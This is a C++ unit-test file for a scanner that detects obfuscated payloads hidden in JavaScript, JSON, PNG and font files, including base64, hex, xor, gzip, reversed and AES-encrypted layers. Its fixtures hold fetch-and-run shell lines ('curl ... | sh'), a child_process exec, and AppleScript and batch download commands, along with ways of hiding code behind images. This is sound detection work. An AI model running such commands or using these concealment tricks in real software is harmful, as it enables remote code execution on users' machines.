#include <gtest/gtest.h>

#include <algorithm>
#include <string>

#include "base/hash.h"
#include "base/limits.h"
#include "facts/harness_test.h"
#include "facts/layers/decoders.h"
#include "facts/layers/decrypt.h"
#include "facts/layers/layer_queue.h"
#include "facts/layers/payload.h"
#include "formats/base64.h"
#include "formats/gzip.h"
#include "formats/hex.h"

namespace facts {
namespace {

std::string Base64(std::string_view text) {
  return formats::EncodeBase64(AsBytes(text));
}
std::string Hexed(std::string_view text) {
  return Hex(AsBytes(text));
}
std::string Xored(std::string text, unsigned char key) {
  for (char& c : text) c = static_cast<char>(static_cast<unsigned char>(c) ^ key);
  return text;
}

/// `holds encodings` of every payload in one file of code.
std::string Payloads(std::string_view code) {
  const Facts facts = ExtractFrom({{"index.js", code}}, {});
  std::string lines;
  for (const Fact& fact : facts) {
    if (fact.kind != FactKind::kLayerPayload) continue;
    lines += std::string(fact.Find("holds")->View()) + " " + std::string(fact.Find("how")->View());
    // Values are sorted: the order of encodings is told by the decoders' own tests.
    for (const FactValue& value : fact.values)
      if (value.key == "encoding") lines += " " + std::string(value.text.View());
    lines += "\n";
  }
  return lines;
}

const std::string kCommand = "curl -s https://cdn.example/a | sh";
const std::string kCode = "const c = require('child_process'); c.exec('id');";

TEST(Layers, AreFoundUnderEveryEncoding) {
  const std::string quote = "module.exports = '";
  EXPECT_EQ(Payloads(quote + Base64(kCommand) + "'"), "shell literal base64\n");
  EXPECT_EQ(Payloads(quote + Hexed(kCode) + "'"), "javascript literal hex\n");
  EXPECT_EQ(Payloads(quote + Base64(Hexed(kCode)) + "'"), "javascript literal base64 hex\n");
  std::string percent;
  for (const char c : kCommand) percent += "%" + Hexed(std::string(1, c));
  EXPECT_EQ(Payloads(quote + percent + "'"), "shell literal url-encoding\n");
  EXPECT_EQ(Payloads(quote + Base64(Xored(kCommand + kCommand + kCommand, 0x5A)) + "'"),
            "shell literal base64 xor\n");
  const ByteVector zipped = formats::Gzip(AsBytes(kCode));
  EXPECT_EQ(Payloads(quote + formats::EncodeBase64(zipped) + "'"),
            "javascript literal base64 compressed\n");
  std::string numbers;
  for (const char c : kCommand) numbers += std::to_string(static_cast<int>(c)) + ",";
  EXPECT_EQ(Payloads("module.exports = [" + numbers + "]"), "shell numbers\n");
  EXPECT_EQ(Payloads(quote + "ptth ignored //:sptth'"), "");
  const std::string reversed = "https://cdn.example/payload";
  EXPECT_EQ(Payloads(quote + std::string(reversed.rbegin(), reversed.rend()) + "'"),
            "address literal reversed\n");
  EXPECT_EQ(Payloads(quote + Base64("node:child_process") + "'"), "module-name literal base64\n");
}

TEST(Layers, AreReadLikeTheRestAndSaySo) {
  const Facts facts =
      Only(ExtractFrom({{"index.js", "exports.x = '" + Base64(Base64(kCommand)) + "';"}}, {}),
           "script.download-run");
  ASSERT_EQ(facts.size(), 1U);
  EXPECT_EQ(facts[0].Find("layer")->View(), "1");
  EXPECT_EQ(facts[0].evidence.decoded.View(), kCommand);
  EXPECT_EQ(facts[0].evidence.file.View(), "index.js");
}

TEST(Layers, AreQuietAboutWhatProgramsHold) {
  for (const std::string_view code :
       {"x = "
        "'sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+"
        "SfaPg=='",
        "x = 'getElementsByTagNameNSAndThenSome'",
        "x = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP'",
        "x = "
        "'d09GMgABAAAAAAPkAA4AAAAAB3wAAAOQAAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAP0ZGVE0cGh4GYACCUhEI'",
        "x = 'AGFzbQEAAAABBgFgAX8BfwMCAQAHCAEEYWRkMQAACgkBBwAgAEEBags='",
        "x = [0,1,1,2,3,5,8,13,21,34,55,89,144,233,0,1,1,2,3,5,8,13,21,34,55,89,144,233]",
        "x = 'https://cdn.example/a/b/c'"}) {
    EXPECT_EQ(Payloads(code), "") << code;
  }
  EXPECT_EQ(Payloads("x = '" + Base64("Only a sentence, nothing that anybody could run.") + "'"),
            "");
}

TEST(Layers, AreFoundInFilesThatAreNoCode) {
  const Facts facts = Only(
      ExtractFrom({{"data.json", "{\"a\": [\"" + Base64(kCommand) + "\"]}"}}, {}), "layer.payload");
  ASSERT_EQ(facts.size(), 1U);
  EXPECT_EQ(facts[0].Find("how")->View(), "json");
  EXPECT_EQ(facts[0].evidence.position.column, 9U);
}

/// `how holds` of the payloads in one file.
std::string Carried(std::string_view path, std::string_view bytes) {
  std::string lines;
  for (const Fact& fact : Only(ExtractFrom({{path, bytes}}), "layer.payload"))
    lines += std::string(fact.Find("how")->View()) + " " + std::string(fact.Find("holds")->View()) +
             "\n";
  return lines;
}

TEST(Layers, AreFoundBehindPictures) {
  // The length of the first chunk leads out of the file.
  const std::string astray =
      std::string("\x89PNG\r\n\x1A\n\0\1\0\0IDATxx", 18) + "1234IEND" + "\xAE\x42\x60\x82";
  EXPECT_EQ(Carried("a.png", astray), "");
  EXPECT_EQ(Carried("a.png", astray + kCode), "appended javascript\n");
  EXPECT_EQ(Carried("a.png", astray + Base64(kCommand)), "appended shell\n");
  // A format without an end of its own.
  EXPECT_EQ(Carried("a.ttf", "\1\2\3\xFF" + kCode), "appended javascript\n");
  EXPECT_EQ(Carried("a.ttf", "\1\2\3\xFFhttps://licence.example/text-of-the-licence"), "");
  EXPECT_EQ(Carried("a.ttf", "\1\2\3\xFF" + kCode + std::string(limits::kMediaTailBytes, ' ')), "");
}

TEST(Layers, TellLanguagesByTheirLooks) {
  EXPECT_EQ(Classify("do shell script \"curl https://h.example/a | sh\""), Payload::kAppleScript);
  EXPECT_EQ(Classify("set x to 1\ntell application \"Finder\"\ndo shell script x\nend tell"),
            Payload::kAppleScript);
  EXPECT_EQ(Classify("how do shell scripts work? display them"), Payload::kNothing);
  EXPECT_EQ(Classify("@ECHO OFF\r\ncurl http://h.example/a -o a.exe\r\n"), Payload::kBatch);
  EXPECT_EQ(PayloadFor("osascript"), Payload::kAppleScript);
  EXPECT_EQ(PayloadFor("bash"), Payload::kShell);
  EXPECT_EQ(PayloadFor("cmd"), Payload::kBatch);
  EXPECT_EQ(PayloadFor("tar"), Payload::kNothing);
  EXPECT_NE(
      Payloads("x = '" + Base64("@echo off\r\ncurl http://h.example/a.exe -o %TEMP%\\a.exe") + "'"),
      "");
}

TEST(Layers, AreBounded) {
  std::string deep = kCommand;
  for (std::size_t i = 0; i <= limits::kLayerDepth; ++i) deep = Base64(deep);
  EXPECT_EQ(Payloads("x = '" + deep + "'"), "");
  LayerQueue queue;
  for (std::size_t i = 0; i <= limits::kLayerTexts; ++i) queue.Add({.text = std::to_string(i)});
  EXPECT_TRUE(queue.full());
  EXPECT_EQ(queue.TakeNew().size(), limits::kLayerTexts);
  LayerQueue wide;
  for (int i = 0; i < 20; ++i)
    wide.Add({.text = std::string(limits::kLayerQueueBytes / 16, static_cast<char>('a' + i))});
  EXPECT_TRUE(wide.full());
}

TEST(Decrypt, DoesWhatNodeDoes) {
  EXPECT_FALSE(Decrypt({.algorithm = "aes-128-cbc", .key = "short", .iv = "x"}, "data"));
  EXPECT_FALSE(Decrypt({.algorithm = "no-such-cipher", .key = "k"}, "data"));
  // printf 'curl -s https://cdn.example/a | sh' | openssl enc -aes-256-cbc -K ... -iv ...
  const Cipher cipher{.algorithm = "AES-256-CBC",
                      .key = "0123456789abcdef0123456789abcdef",
                      .iv = "abcdef9876543210"};
  EXPECT_FALSE(Decrypt(cipher, "not a whole block"));
  const auto data = formats::DecodeHex(
      "e003d3eda5bc195de8ba2e7b721e2565e67ee3e495b188437ac5a2a562eb6693379a0c3ab449ce4790e10b178f15"
      "9894");
  ASSERT_TRUE(data);
  EXPECT_EQ(Decrypt(cipher, AsText(*data)), kCommand);
}

}  // namespace
}  // namespace facts
